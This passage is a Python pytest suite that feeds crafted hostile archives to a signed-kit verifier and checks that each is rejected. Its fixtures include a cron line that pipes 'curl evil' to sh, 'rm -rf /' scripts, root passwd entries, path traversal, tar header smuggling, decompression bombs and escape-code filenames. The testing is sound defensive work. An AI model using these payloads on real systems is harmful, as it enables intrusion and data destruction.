"""The hostile-kit suite: one crafted archive per rule, named after its defect.

Almost every kit here is validly signed by the trusted test key (see
tests/factories/hostile.py), so what refuses it is the rule under test, not
the signature. Each case asserts the documented exit code of its category
(docs/exit-codes.md, docs/format.md §8), a one-line error on stderr that names
what is wrong, and that nothing was written anywhere (working directory,
anti-rollback state, temp dir, the kit's own directory). The zstd bombs run
in a child process whose peak RSS is measured.

A case marked xfail(strict=True) is a kitbuilder bug: the reason says what
happens instead. Do not "fix" such a case here; fix kitbuilder and drop the mark.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pty
import random
import re
import select
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from kitbuilder.archive import tarfmt, zstdframes
from kitbuilder.archive.tarfmt import END_OF_ARCHIVE
from tests.factories.cli import run_kit
from tests.factories.hostile import (
    OPS,
    RELEASE,
    STRANGER,
    Member,
    Recipe,
    block_header,
    frame_header,
    gnu_longname,
    good_members,
    hand_frame,
    index_entry,
    kit,
    padding_for,
    pax_records,
    pseudo_random,
    raw_block,
    rle_frame,
    ustar_header,
    with_header,
    zframe,
)

GiB = 1 << 30
MiB = 1 << 20
KINDS = {3: ("trust",), 4: ("integrity",), 5: ("archive", "format"), 6: ("policy",)}
KEYS = {"release": RELEASE, "ops": OPS, "stranger": STRANGER}


@dataclass(frozen=True)
class Case:
    make: Callable[[], bytes]
    exit_code: int
    words: tuple[str, ...]  # each must appear in the error line: the member, field or rule at fault
    args: tuple[str, ...] = ()  # extra `kit verify` arguments
    keys: tuple[str, ...] = ("release",)  # trusted keys given with --key
    state: dict[str, Any] | None = None  # anti-rollback state seeded before the run
    measure: bool = False  # run in a child process and bound its peak RSS and time
    bug: str | None = None  # a kitbuilder bug: the case is xfail(strict=True) with this reason


# ---------------------------------------------------------------------------------------------------------------
# small makers


def first(*members: Member, **recipe: Any) -> bytes:
    """A kit whose payload starts with ``members`` (e.g. a global header), then the good files."""
    return Recipe(members=[*members, *good_members()], **recipe).build().data


def typed(typeflag: bytes, name: str = "docs/x.md", *, data: bytes = b"", linkname: bytes = b"") -> bytes:
    """A kit whose member signed as docs/x.md has a header of type ``typeflag``."""
    return kit(with_header("docs/x.md", data, name=name, typeflag=typeflag, linkname=linkname))


def moded(mode: int) -> bytes:
    return kit(with_header("docs/run.sh", b"#!/bin/sh\necho hi\n", mode=mode))


def raw_field(offset: int, value: bytes) -> bytes:
    return kit(with_header("docs/x.md", b"x" * 10, raw={offset: value}))


def frame(data_frame: bytes, path: str = "docs/x.md", data: bytes = b"x") -> bytes:
    """A kit whose member ``path`` (signed size len(data)) has ``data_frame`` as its compressed data frame."""
    return kit(Member(path, data, data_frame=data_frame))


def index(hook: Callable[[dict[str, Any]], None]) -> bytes:
    return kit(index_hook=hook)


def index_field(path: str, key: str, change: Callable[[Any], Any]) -> bytes:
    def hook(document: dict[str, Any]) -> None:
        entry = index_entry(document, path)
        entry[key] = change(entry[key])

    return index(hook)


def metadata_frame(name: str, data_frame: Callable[[bytes], bytes]) -> bytes:
    def hook(member: Member) -> None:
        if member.path == name:
            member.data_frame = data_frame(member.data + padding_for(member.data))

    return kit(metadata_hook=hook)


def cut_in(path: str) -> bytes:
    """The good kit cut off in the middle of ``path``'s frames."""
    crafted = Recipe(members=good_members()).build()
    offset, length = crafted.spans[path]
    return crafted.data[: offset + length // 2]


def last_block_missing() -> bytes:
    """A member frame with its last block cut off, the rest of the kit re-laid out and re-signed around it."""
    data = pseudo_random(200_000)
    whole = data + padding_for(data)
    pieces = [whole[i : i + 128 * 1024] for i in range(0, len(whole), 128 * 1024)]
    blocks = [raw_block(piece, last=False) for piece in pieces[:-1]]  # no last block: the frame never ends
    return kit(Member("docs/cut.bin", data, data_frame=frame_header() + b"".join(blocks)))


def flip_last_byte(frame_bytes: bytes) -> bytes:
    return frame_bytes[:-1] + bytes([frame_bytes[-1] ^ 0xFF])


def plain_tar_zst() -> bytes:
    """An ordinary tar.zst (what `tar --zstd -c` makes), not a kit."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo("docs/a.md")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return zframe(buffer.getvalue())


def deeply_nested(document: bytes) -> bytes:
    return document[:-1] + b',"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def set_sequence(payload: bytes) -> bytes:
    return payload.replace(b'"sequence":1', b'"sequence":2')


def flip_first_digest(sums: bytes) -> bytes:
    return (b"f" if sums[:1] != b"f" else b"e") + sums[1:]


def drop_subject(name: str) -> Callable[[dict[str, Any]], None]:
    def hook(statement: dict[str, Any]) -> None:
        statement["subject"] = [s for s in statement["subject"] if s["name"] != name]

    return hook


def claim_keyid(keyid: str) -> Callable[[dict[str, Any]], None]:
    def hook(envelope: dict[str, Any]) -> None:
        envelope["signatures"][-1]["keyid"] = keyid

    return hook


def evil_member_frames() -> bytes:
    """A complete tar member (header + data), what `tar --ignore-zeros -x` would extract after the end marker."""
    data = b"rm -rf /\n"
    return zframe(ustar_header("docs/evil.sh", len(data), mode=0o755)) + zframe(data + padding_for(data))


def without_metadata(name: str) -> Callable[[dict[str, Any]], None]:
    def hook(document: dict[str, Any]) -> None:
        document["members"] = [m for m in document["members"] if m["path"] != name]

    return hook


def end_field(key: str, change: Callable[[int], int]) -> Callable[[dict[str, Any]], None]:
    def hook(document: dict[str, Any]) -> None:
        document["end"][key] = change(document["end"][key])

    return hook


def no_end_of_archive() -> bytes:
    return kit(end_frame=b"", index_hook=end_field("length", lambda _: 1))


def index_frame_over_cap() -> bytes:
    """The footer points at a skippable frame header that claims a 65 MiB index (beyond the 64 MiB cap)."""
    claim = zstdframes.skippable_frame(zstdframes.INDEX_MAGIC, b"")[:4] + (65 * MiB).to_bytes(4, "little")
    return kit(after_end=claim, footer_hook=lambda offset: zstdframes.footer_frame(offset - len(claim)))


def many_members(count: int) -> bytes:
    return kit(*(Member(f"docs/f{n:03d}.md", b"x") for n in range(count)), keep_good=False)


LEADING_NUL_BUG = (
    "tarfmt._number cuts a numeric field at its first NUL, so a {field} field of NUL + octal digits reads as 0, "
    "while GNU tar skips one leading NUL (from_header: where += !*where) and reads the digits: kit verify exits 0 "
    "and `zstd -dc KIT | tar -x` {effect}"
)


def size_smuggler() -> bytes:
    """docs/x.md is signed empty; GNU tar reads its size as 512 and finds a member inside docs/y.bin's data."""
    evil = b"#!/bin/sh\necho pwned\n"
    hidden = ustar_header("docs/evil.sh", len(evil), mode=0o755) + evil + padding_for(evil)
    x = Member("docs/x.md", b"", header=ustar_header("docs/x.md", 0, raw={124: b"\x00" + b"0000001000" + b"\x00"}))
    return kit(x, Member("docs/y.bin", hidden))


def mode_smuggler() -> bytes:
    """docs/run.sh's mode field reads 0 to kitbuilder and 4755 to GNU tar."""
    script = b"#!/bin/sh\nid\n"
    return kit(
        Member("docs/run.sh", script, header=ustar_header("docs/run.sh", len(script), raw={100: b"\x000004755"}))
    )


def seed_state(sequence: int, last_seen: str) -> dict[str, Any]:
    return {"name": "hostile-kit", "channel": "stable", "highestSequence": sequence, "lastSeen": last_seen}


@cache
def _random_bytes() -> bytes:
    return random.Random(20251125).randbytes(4096)


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


ESC_NAME = "docs/\x1b[2J\x1b[1;1Hkit verify: OK.md"  # clears the screen and writes a fake verdict

# ---------------------------------------------------------------------------------------------------------------
# the cases: name -> (kit, exit code, words the one-line error must contain)

CASES: dict[str, Case] = {
    # --- tar member types: regular files only (format.md §2.1 rule 4) ---
    "symlink_member": Case(lambda: typed(b"2", linkname=b"/etc/passwd"), 5, ("member docs/x.md", "symbolic link")),
    "hardlink_member": Case(lambda: typed(b"1", linkname=b"docs/a.md"), 5, ("member docs/x.md", "hard link")),
    "char_device": Case(lambda: typed(b"3"), 5, ("member docs/x.md", "character device")),
    "block_device": Case(lambda: typed(b"4"), 5, ("member docs/x.md", "block device")),
    "fifo": Case(lambda: typed(b"6"), 5, ("member docs/x.md", "FIFO")),
    "directory_member": Case(lambda: typed(b"5", "docs/dir/"), 5, ("member docs/dir/", "directory")),
    "contiguous_file": Case(lambda: typed(b"7", data=b"x"), 5, ("member docs/x.md", "contiguous file")),
    "gnu_sparse": Case(lambda: typed(b"S", data=b"x"), 5, ("member docs/x.md", "GNU sparse")),
    "old_style_file": Case(lambda: typed(b"\0", data=b"x"), 5, ("member docs/x.md", "old-style")),
    "unknown_typeflag": Case(lambda: typed(b"Z", data=b"x"), 5, ("member docs/x.md", "unknown tar type b'Z'")),
    "pax_path_override": Case(
        # The PAX header a stock tar applies to the next member: its path becomes ../../etc/cron.d/evil.
        lambda: kit(
            with_header(
                "docs/PaxHeaders/x.md",
                pax_records({"path": "../../etc/cron.d/evil", "mode": "4755"}),
                typeflag=b"x",
            ),
            Member("docs/x.md", b"* * * * * root sh -c 'curl evil|sh'\n"),
        ),
        5,
        ("member docs/PaxHeaders/x.md", "PAX extended header"),
    ),
    "pax_global_header": Case(
        lambda: first(
            with_header(
                "docs/pax_global_header", pax_records({"path": "/etc/passwd"}), name="pax_global_header", typeflag=b"g"
            )
        ),
        5,
        ("member pax_global_header", "PAX global header"),
    ),
    "gnu_longname": Case(
        lambda: kit(
            with_header("docs/longname", gnu_longname("../" * 40 + "etc/passwd"), name="././@LongLink", typeflag=b"L"),
            Member("docs/x.md", b"root::0:0::/:/bin/sh\n"),
        ),
        5,
        ("member ././@LongLink", "GNU long-name header"),
    ),
    "gnu_longlink": Case(
        lambda: kit(with_header("docs/longlink", gnu_longname("/" + "a/" * 60), name="././@LongLink", typeflag=b"K")),
        5,
        ("member ././@LongLink", "GNU long-link header"),
    ),
    "linkname_on_regular_file": Case(
        lambda: kit(with_header("docs/x.md", linkname=b"/etc/shadow")), 5, ("member docs/x.md", "link target")
    ),
    "gnu_magic": Case(
        lambda: kit(with_header("docs/x.md", magic=b"ustar  \0")), 5, ("member docs/x.md", "not a POSIX ustar header")
    ),
    "v7_header_no_magic": Case(
        lambda: kit(with_header("docs/x.md", magic=bytes(8))), 5, ("member docs/x.md", "not a POSIX ustar header")
    ),
    # --- modes (§8.4.8) ---
    "setuid_mode": Case(lambda: moded(0o4755), 5, ("member docs/run.sh", "mode 4755", "setuid")),
    "setgid_mode": Case(lambda: moded(0o2755), 5, ("member docs/run.sh", "mode 2755", "setgid")),
    "sticky_mode": Case(lambda: moded(0o1644), 5, ("member docs/run.sh", "mode 1644", "sticky")),
    "world_writable": Case(lambda: moded(0o666), 5, ("member docs/run.sh", "mode 666", "world-writable")),
    "mode_outside_0777": Case(lambda: moded(0o100644), 5, ("member docs/run.sh", "mode 100644", "outside 0777")),
    # --- numeric fields and checksum (§8.4.2, §8.4.9) ---
    "bad_header_checksum": Case(
        lambda: kit(with_header("docs/x.md", checksum=b"000000\0 ")), 5, ("tar header at stream offset", "checksum")
    ),
    "base256_size": Case(
        lambda: raw_field(124, b"\x80" + (10).to_bytes(11, "big")), 5, ("member docs/x.md", "size", "base-256")
    ),
    "non_octal_size": Case(lambda: raw_field(124, b"0000000001x\0"), 5, ("member docs/x.md", "size", "not octal")),
    "non_octal_mode": Case(lambda: raw_field(100, b"0000649\0"), 5, ("member docs/x.md", "mode", "not octal")),
    "size_field_leading_nul": Case(
        size_smuggler,
        5,
        ("member docs/x.md", "size"),
    ),
    "mode_field_leading_nul": Case(
        mode_smuggler,
        5,
        ("member docs/run.sh", "mode"),
    ),
    # --- member paths (§3, §8.4.7): the header says something else than the signed name ---
    "absolute_path": Case(
        lambda: kit(with_header("docs/x.md", name="/etc/cron.d/evil")),
        5,
        ("member /etc/cron.d/evil", "absolute path"),
    ),
    "absolute_path_via_prefix": Case(
        lambda: kit(with_header("docs/x.md", name="cron.d/evil", prefix="/etc")),
        5,
        ("member /etc/cron.d/evil", "absolute path"),
    ),
    "dotdot_path": Case(
        lambda: kit(with_header("docs/x.md", name="docs/../../etc/passwd")),
        5,
        ("member docs/../../etc/passwd", "'..'"),
    ),
    "dotdot_via_prefix": Case(
        lambda: kit(with_header("docs/x.md", name="etc/passwd", prefix="docs/../..")),
        5,
        ("member docs/../../etc/passwd", "'..'"),
    ),
    "dot_slash_path": Case(lambda: kit(with_header("docs/x.md", name="./docs/x.md")), 5, ("member ./docs/x.md", "'.'")),
    "empty_name": Case(lambda: kit(with_header("docs/x.md", name="")), 5, ("empty path",)),
    "backslash_path": Case(
        lambda: kit(with_header("docs/x.md", name="docs\\..\\..\\evil.md")), 5, ("docs\\..\\..\\evil.md", "outside")
    ),
    "non_ascii_name": Case(
        lambda: kit(with_header("docs/x.md", name="docs/caf\u00e9.md")), 5, ("docs/caf", "not ASCII")
    ),
    "path_too_long": Case(
        lambda: kit(with_header("docs/x.md", name="n" * 100, prefix="docs/" + "p" * 150)), 5, ("too long",)
    ),
    "newline_in_name": Case(
        lambda: kit(with_header("docs/x.md", name="docs/x\nkit: OK all checks passed", typeflag=b"2")),
        5,
        ("member docs/x", "symbolic link"),
    ),
    "carriage_return_in_name": Case(
        lambda: kit(with_header("docs/x.md", name="docs/x.md\rkit: OK docs/x.md verified")),
        5,
        ("docs/x.md",),
    ),
    # --- duplicates and collisions (§3, §8.8.3.5) ---
    "duplicate_name": Case(
        lambda: kit(Member("docs/x.md", b"one"), Member("docs/y.md", b"two", header=ustar_header("docs/x.md", 3))),
        5,
        ("member docs/x.md", "duplicate of docs/x.md"),
    ),
    "duplicate_hidden_from_manifest": Case(
        lambda: kit(Member("docs/x.md", b"one"), Member("docs/x.md", b"evil", listed=False, indexed=False)),
        5,
        ("member docs/x.md", "duplicate of docs/x.md"),
    ),
    "duplicate_dot_slash": Case(
        lambda: kit(Member("docs/x.md", b"one"), Member("docs/y.md", b"two", header=ustar_header("./docs/x.md", 3))),
        5,
        ("member ./docs/x.md", "'.'"),
    ),
    "case_collision": Case(
        lambda: kit(Member("docs/A.sql", b"SELECT 1;\n"), Member("docs/a.sql", b"DROP TABLE t;\n")),
        5,
        ("member docs/a.sql", "duplicate of docs/A.sql"),
    ),
    "unicode_nfc_nfd_collision": Case(
        lambda: kit(
            Member("docs/cafe1.sql", b"one", header=ustar_header("docs/caf\u00e9.sql", 3)),
            Member("docs/cafe2.sql", b"two", header=ustar_header("docs/cafe\u0301.sql", 3)),
        ),
        5,
        ("docs/caf", "not ASCII"),
    ),
    "index_lists_member_twice": Case(
        lambda: kit(Member("docs/x.md", b"one"), Member("docs/x.md", b"one", listed=False)),
        5,
        ("lists a member twice",),
    ),
    "manifest_lists_file_twice": Case(
        lambda: kit(manifest_hook=lambda m: m["files"].append(dict(m["files"][0]))),
        5,
        ("docs/a.md", "listed twice"),
    ),
    "file_is_also_directory": Case(
        lambda: kit(Member("docs/d", b"a file\n"), Member("docs/d/e.md", b"a file inside that file\n")),
        5,
        ("docs/d",),
    ),
    "file_directory_case_conflict": Case(
        lambda: kit(Member("docs/D", b"a file\n"), Member("docs/d/e.md", b"inside it on a case-insensitive disk\n")),
        5,
        ("docs/",),
    ),
    # --- header and data frame shapes (§1.1, §8.8) ---
    "member_in_one_frame": Case(
        # What a stock `tar | zstd` member looks like: header and data in the same frame.
        lambda: kit(
            Member(
                "docs/x.md",
                b"data",
                header_frame=zframe(ustar_header("docs/x.md", 4) + b"data" + bytes(508)),
                data_frame=b"",
            )
        ),
        5,
        ("docs/x.md header", "1024 bytes, more than the 512 allowed"),
    ),
    "two_headers_in_one_frame": Case(
        lambda: kit(Member("docs/x.md", b"x", header_frame=zframe(ustar_header("docs/x.md", 1) * 2))),
        5,
        ("docs/x.md header", "1024 bytes, more than the 512 allowed"),
    ),
    "header_frame_short": Case(
        lambda: kit(Member("docs/x.md", b"x", header_frame=zframe(ustar_header("docs/x.md", 1)[:100]))),
        5,
        ("offset", "header frame holds 100 bytes, not 512"),
    ),
    "nonzero_padding": Case(
        lambda: kit(Member("docs/x.md", b"x", padding=b"\x01" * 511)), 5, ("member docs/x.md", "non-zero", "padding")
    ),
    "short_padding": Case(
        lambda: kit(Member("docs/x.md", b"x", padding=b"")), 5, ("member docs/x.md", "tar padding is 0 bytes")
    ),
    "long_padding": Case(
        lambda: kit(Member("docs/x.md", b"x", padding=bytes(1023))), 5, ("member docs/x.md", "more than the 512")
    ),
    "not_zstd_data_frame": Case(lambda: frame(b"x" + bytes(511)), 5, ("member docs/x.md", "not a zstd frame")),
    # --- truncation, trailing data, stray frames (§8.1, §8.8) ---
    "truncated_mid_member": Case(lambda: cut_in("docs/c.bin"), 5, ("footer", "truncated")),
    "truncated_mid_metadata": Case(lambda: cut_in("manifest.json"), 5, ("footer", "truncated")),
    "truncated_member_frame_resealed": Case(last_block_missing, 5, ("member docs/cut.bin",)),
    "truncated_footer": Case(lambda: kit()[:-10], 5, ("footer",)),
    "trailing_garbage_after_footer": Case(lambda: kit(trailer=b"#!/bin/sh\n"), 5, ("footer",)),
    "second_footer_after_footer": Case(
        lambda: kit(footer_hook=lambda offset: zstdframes.footer_frame(offset) * 2),
        5,
        ("kit index", "unexpected bytes between index and footer"),
    ),
    "bytes_between_index_and_footer": Case(
        lambda: kit(before_footer=bytes(8)), 5, ("kit index", "unexpected bytes between index and footer")
    ),
    "data_after_end_of_archive": Case(
        lambda: kit(after_end=evil_member_frames()), 5, ("bytes of data after the end of the tar archive",)
    ),
    "skippable_after_end_of_archive": Case(
        lambda: kit(after_end=zstdframes.skippable_frame(0x184D2A50, b"hidden")),
        5,
        ("14 bytes of data after the end of the tar archive",),
    ),
    "skippable_frame_in_middle": Case(
        lambda: kit(Member("docs/x.md", b"x", before=zstdframes.skippable_frame(0x184D2A50, b"hidden"))),
        5,
        ("unexpected non-zstd frame inside the tar stream",),
    ),
    "skippable_frame_inside_member": Case(
        lambda: kit(Member("docs/x.md", b"x", between=zstdframes.skippable_frame(0x184D2A50, b"hidden"))),
        5,
        ("member docs/x.md", "not a zstd frame"),
    ),
    "gap_between_members": Case(
        lambda: kit(Member("docs/x.md", b"x", before=bytes(16))), 5, ("unexpected non-zstd frame",)
    ),
    "no_end_of_archive": Case(no_end_of_archive, 5, ("no end-of-archive frame",)),
    "end_of_archive_not_zero": Case(
        lambda: kit(end_frame=zframe(bytes(1023) + b"\1")), 5, ("not a member and not the end of the archive",)
    ),
    "end_of_archive_short": Case(
        lambda: kit(end_frame=zframe(bytes(512))), 5, ("not a member and not the end of the archive",)
    ),
    "end_of_archive_bomb": Case(
        lambda: kit(end_frame=rle_frame(GiB)), 5, ("not a member and not the end of the archive",), measure=True
    ),
    # --- the unsigned index and footer (§8.1, §8.2, §8.7) ---
    "index_offset_lies": Case(
        lambda: index_field("docs/b.sql", "offset", lambda v: v + 1),
        5,
        ("docs/b.sql", "archive index entry differs from the signed manifest"),
    ),
    "index_size_lies": Case(
        lambda: index_field("docs/b.sql", "size", lambda v: v + 1),
        5,
        ("docs/b.sql", "archive index entry differs from the signed manifest"),
    ),
    "index_metadata_offset_lies": Case(
        lambda: index_field("SHA256SUMS", "offset", lambda _: 0),
        5,
        ("index says SHA256SUMS at offset 0", "docs/a.md"),
    ),
    "index_metadata_size_lies": Case(
        lambda: index_field("SHA256SUMS", "size", lambda v: v + 1), 4, ("SHA256SUMS", "tar header says")
    ),
    "index_metadata_length_lies": Case(
        lambda: index_field("manifest.json", "length", lambda v: v + 1), 5, ("manifest.json", "frames span")
    ),
    "index_metadata_digest_lies": Case(
        lambda: index_field("SHA256SUMS", "sha256", lambda _: "0" * 64), 4, ("SHA256SUMS", "sha256 differs")
    ),
    "index_end_offset_lies": Case(
        lambda: index(end_field("offset", lambda v: v + 1)), 5, ("not a member and not the end of the archive",)
    ),
    "index_end_length_lies": Case(
        lambda: index(end_field("length", lambda v: v + 1)), 5, ("end-of-archive frame length differs",)
    ),
    "index_missing_metadata": Case(
        lambda: index(without_metadata("manifest.dsse.json")), 5, ("kit index has no manifest.dsse.json",)
    ),
    "index_not_json": Case(lambda: kit(index_bytes_hook=lambda _: b"PK\3\4"), 5, ("archive index", "not valid JSON")),
    "index_duplicate_key": Case(
        lambda: kit(index_bytes_hook=lambda b: b'{"format":"evil",' + b[1:]), 5, ("archive index", "duplicate key")
    ),
    "index_unknown_field": Case(
        lambda: index(lambda d: d.update(extra=1)), 5, ("archive index", "'extra' was unexpected")
    ),
    "index_deeply_nested": Case(
        lambda: kit(index_bytes_hook=deeply_nested),
        5,
        ("archive index",),
    ),
    "index_offset_not_integer": Case(
        lambda: index_field("SHA256SUMS", "offset", float),
        5,
        ("archive index", "non-integer number"),
    ),
    "index_offset_overflow": Case(
        lambda: index_field("SHA256SUMS", "offset", lambda _: 2**63),
        5,
        ("archive index", ".offset", "greater than the maximum"),
    ),
    "index_frame_over_cap": Case(index_frame_over_cap, 5, ("exceeds the cap",)),
    "index_wrong_magic": Case(lambda: kit(index_magic=0x184D2A50), 5, ("not an index frame",)),
    "footer_points_past_end": Case(
        lambda: kit(footer_hook=lambda _: zstdframes.footer_frame(10**12)), 5, ("kit footer", "past the end")
    ),
    "footer_points_into_payload": Case(
        lambda: kit(footer_hook=lambda _: zstdframes.footer_frame(0)), 5, ("offset 0", "expected a skippable frame")
    ),
    "metadata_member_over_cap": Case(
        lambda: index_field("manifest.json", "size", lambda _: 65 * MiB), 5, ("manifest.json", "metadata cap")
    ),
    # --- zstd frame rules (§8.3) ---
    "zstd_bomb": Case(
        lambda: frame(rle_frame(GiB)), 5, ("member docs/x.md", "decompresses to more than the 512 bytes"), measure=True
    ),
    "zstd_bomb_declared_size": Case(
        lambda: frame(rle_frame(GiB, content_size=GiB)), 5, ("member docs/x.md", "declares 1073741824 bytes")
    ),
    "zstd_bomb_in_header_frame": Case(
        lambda: kit(Member("docs/x.md", b"x", header_frame=rle_frame(GiB))),
        5,
        ("docs/x.md header", "more than the 512 bytes"),
        measure=True,
    ),
    "zstd_bomb_in_metadata": Case(
        lambda: metadata_frame("SHA256SUMS", lambda _: rle_frame(GiB)),
        5,
        ("SHA256SUMS", "decompresses to more than"),
        measure=True,
    ),
    "huge_window": Case(
        lambda: frame(rle_frame(512, window_log=30)), 5, ("member docs/x.md", "window of 1073741824 bytes")
    ),
    "window_just_over_cap": Case(
        lambda: frame(rle_frame(512, window_log=24, window_mantissa=1)), 5, ("window of 18874368 bytes", "16777216")
    ),
    "zstd_dictionary": Case(
        lambda: frame(hand_frame(b"x" + bytes(511), dictionary_id=7)), 5, ("member docs/x.md", "dictionary")
    ),
    "zstd_reserved_bit": Case(
        lambda: frame(hand_frame(b"x" + bytes(511), reserved_bit=True)), 5, ("member docs/x.md", "reserved bit")
    ),
    "zstd_reserved_block_type": Case(
        lambda: frame(hand_frame(b"", blocks=[block_header(3, 0, last=True)])),
        5,
        ("member docs/x.md", "reserved zstd block type"),
    ),
    "zstd_block_over_128k": Case(
        lambda: frame(
            hand_frame(b"", blocks=[raw_block(bytes(128 * 1024 + 512), last=True)], window_log=20),
            data=bytes(128 * 1024 + 1),
        ),
        5,
        ("larger than 128 KiB",),
    ),
    "zstd_bad_checksum": Case(
        lambda: frame(flip_last_byte(zframe(b"x" + bytes(511)))), 5, ("member docs/x.md", "corrupt zstd data")
    ),
    "zstd_corrupt_block": Case(
        lambda: frame(hand_frame(b"", blocks=[block_header(2, 8, last=True) + b"\xff" * 8])),
        5,
        ("member docs/x.md", "corrupt zstd data"),
    ),
    # --- content against the signed manifest (§8.5, §8.8) ---
    "payload_digest_mismatch": Case(
        lambda: kit(Member("docs/x.md", b"DROP TABLE users;\n", signed={"sha256": sha(b"SELECT 1;\n" + bytes(8))})),
        4,
        ("docs/x.md", "expected sha256"),
    ),
    "frame_digest_mismatch": Case(
        lambda: kit(Member("docs/x.md", b"x", signed={"frameSha256": "0" * 64})),
        4,
        ("docs/x.md", "compressed frames differ"),
    ),
    "payload_size_mismatch": Case(
        lambda: kit(Member("docs/x.md", b"x" * 10, header=ustar_header("docs/x.md", 11))),
        4,
        ("docs/x.md", "tar header says 11 bytes, signed size is 10"),
    ),
    "payload_short_data": Case(
        lambda: frame(zframe(b"x" * 5), data=b"x" * 10), 4, ("docs/x.md", "stream holds 5 bytes, signed size is 10")
    ),
    "member_renamed": Case(
        lambda: kit(Member("docs/y.md", b"x", header=ustar_header("docs/z.md", 1))),
        4,
        ("docs/z.md", "expected docs/y.md"),
    ),
    "unlisted_member": Case(
        lambda: kit(Member("docs/evil.sh", b"rm -rf /\n", listed=False)),
        4,
        ("docs/evil.sh", "not in the signed manifest"),
    ),
    "unlisted_member_hidden_from_index": Case(
        lambda: kit(Member("docs/evil.sh", b"rm -rf /\n", listed=False, indexed=False)),
        4,
        ("docs/evil.sh", "not listed in the signed manifest"),
    ),
    "missing_member": Case(
        lambda: kit(Member("docs/gone.sql", b"x", present=False, indexed=False)),
        4,
        ("docs/gone.sql", "missing from the archive"),
    ),
    "missing_member_still_indexed": Case(
        lambda: kit(Member("docs/gone.sql", b"x", present=False)), 4, ("docs/gone.sql", "missing from the archive")
    ),
    "manifest_not_equal_predicate": Case(
        lambda: kit(manifest_json_hook=lambda b: b.replace(b'"sequence": 1', b'"sequence": 9')),
        4,
        ("manifest.json", "differs from the signed predicate"),
    ),
    "sha256sums_mismatch": Case(
        lambda: kit(sums_hook=flip_first_digest), 4, ("SHA256SUMS", "differs from the signed manifest at docs/a.md")
    ),
    "sha256sums_extra_line": Case(
        lambda: kit(sums_hook=lambda s: s + f"{'0' * 64}  docs/zz.sh\n".encode()),
        4,
        ("SHA256SUMS", "docs/zz.sh"),
    ),
    "sha256sums_not_canonical": Case(
        lambda: kit(sums_hook=lambda s: b"".join(reversed(s.splitlines(keepends=True)))),
        5,
        ("SHA256SUMS", "canonical sorted order"),
    ),
    "statement_subject_missing": Case(
        lambda: kit(statement_hook=drop_subject("docs/b.sql")), 4, ("statement subject docs/b.sql",)
    ),
    "statement_subject_duplicate": Case(
        lambda: kit(statement_hook=lambda s: s["subject"].append(dict(s["subject"][0]))),
        4,
        ("statement subject", "duplicate subject"),
    ),
    "signed_size_not_integer": Case(
        lambda: kit(Member("docs/x.md", b"abc", signed={"size": 3.0})),
        5,
        ("non-integer number 3.0",),
    ),
    # --- signatures and statement (§8.5) ---
    "wrong_key": Case(lambda: kit(signers=(STRANGER,)), 3, ("manifest.dsse.json", "0 valid signature(s)")),
    "threshold_not_met": Case(
        lambda: kit(),
        3,
        ("1 valid signature(s) by trusted keys, 2 required",),
        args=("--threshold", "2"),
        keys=("release", "ops"),
    ),
    "threshold_same_key_twice": Case(
        # Two signatures by the release key, the second claiming to be the ops key.
        lambda: kit(signers=(RELEASE, RELEASE), envelope_hook=claim_keyid(OPS.keyid)),
        3,
        ("1 valid signature(s) by trusted keys, 2 required",),
        args=("--threshold", "2"),
        keys=("release", "ops"),
    ),
    "payload_altered_after_signing": Case(
        lambda: kit(payload_hook=set_sequence), 3, ("manifest.dsse.json", "0 valid signature(s)")
    ),
    "sha256sums_sig_invalid": Case(
        lambda: kit(sums_signer=STRANGER), 3, ("SHA256SUMS.sig", "not valid for any trusted key")
    ),
    "unsigned_envelope": Case(
        lambda: kit(envelope_hook=lambda e: e.update(signatures=[])), 5, ("manifest.dsse.json", "non-empty list")
    ),
    "too_many_signatures": Case(
        lambda: kit(envelope_hook=lambda e: e.update(signatures=e["signatures"] * 65)),
        5,
        ("manifest.dsse.json", "65 signatures"),
    ),
    "wrong_payload_type": Case(lambda: kit(payload_type="text/plain"), 5, ("manifest.dsse.json", "payloadType")),
    "wrong_predicate_type": Case(
        lambda: kit(statement_hook=lambda s: s.update(predicateType="https://slsa.dev/provenance/v1")),
        5,
        ("predicateType",),
    ),
    # --- policy (§8.6) ---
    "expired": Case(lambda: kit(kit={"expires": "2001-01-01T00:00:00Z"}), 6, ("expired at 2001-01-01T00:00:00Z",)),
    "wrong_product": Case(lambda: kit(kit={"product": "other"}), 6, ("product 'other'", "'demo'")),
    "wrong_channel": Case(
        lambda: kit(kit={"channel": "beta"}), 6, ("channel 'beta'", "'stable'"), args=("--channel", "stable")
    ),
    "rollback": Case(
        lambda: kit(), 6, ("sequence 1 is older than sequence 5",), state=seed_state(5, "2025-01-01T00:00:00Z")
    ),
    "clock_set_back": Case(
        lambda: kit(kit={"expires": "2030-01-01T00:00:00Z"}),
        6,
        ("expired at 2030-01-01T00:00:00Z",),
        args=("--now", "2026-01-01T00:00:00Z"),
        state=seed_state(1, "2031-01-01T00:00:00Z"),
    ),
    # --- caps (§8.9) ---
    "too_many_members": Case(lambda: many_members(20), 5, ("24 members", "cap of 10"), args=("--max-members", "10")),
    # --- not a kit at all (§8.1) ---
    "not_a_kit": Case(_random_bytes, 5, ("footer",)),
    "empty_file": Case(lambda: b"", 5, ("0 bytes", "not a kit")),
    "plain_tar_zst": Case(plain_tar_zst, 5, ("footer", "not a kit")),
    "footer_only": Case(lambda: zstdframes.footer_frame(0), 5, ("kit footer",)),
}


def _params() -> list[Any]:
    return [
        pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=case.bug)) if case.bug else name
        for name, case in sorted(CASES.items())
    ]


# ---------------------------------------------------------------------------------------------------------------
# running `kit verify` and checking what it did


@dataclass
class Outcome:
    exit_code: int
    stdout: str
    stderr: str
    peak_rss: int | None = None  # bytes, child process only
    seconds: float = 0.0


@dataclass
class Sandbox:
    root: Path
    kit: Path
    cwd: Path
    state: Path
    scratch: Path
    keys: dict[str, Path]


def _sandbox(root: Path, name: str, data: bytes, state: dict[str, Any] | None = None) -> Sandbox:
    for path in (root / "keys", root / "kits", root / "cwd", root / "tmp"):
        path.mkdir(parents=True, exist_ok=True)
